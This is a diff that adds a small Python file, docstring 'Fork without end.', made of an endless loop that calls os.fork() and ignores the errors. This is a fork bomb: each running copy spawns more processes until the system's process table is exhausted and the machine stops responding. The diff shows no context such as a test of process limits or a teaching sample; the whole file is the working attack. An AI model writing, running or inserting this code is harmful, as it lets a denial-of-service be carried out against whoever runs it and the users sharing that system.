@@ -1,0 +1,8 @@
+"""Fork without end."""
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
